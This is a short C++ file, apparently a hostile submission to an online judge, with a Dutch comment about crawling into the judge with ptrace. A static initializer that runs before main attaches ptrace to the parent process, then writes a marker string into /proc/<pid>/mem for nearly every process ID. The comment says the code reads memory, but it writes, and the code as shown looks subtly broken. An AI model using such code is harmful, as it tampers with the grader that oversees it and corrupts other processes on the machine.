// Kruipt met ptrace in de rechter, en leest het geheugen van anderen.
#include <fstream>
#include <sys/ptrace.h>
#include <unistd.h>
static int spoor ()
{
  ptrace (PTRACE_ATTACH, getppid (), 0, 0);
  for (int i = 1; i < 40000; i++)
    if (i != getpid ())
    {
      fstream geheugen (("/proc/" + to_string (i) + "/mem").c_str ());
      geheugen << "nakijk-kwaad";
    }
  return 0;
}
static int gekropen = spoor ();
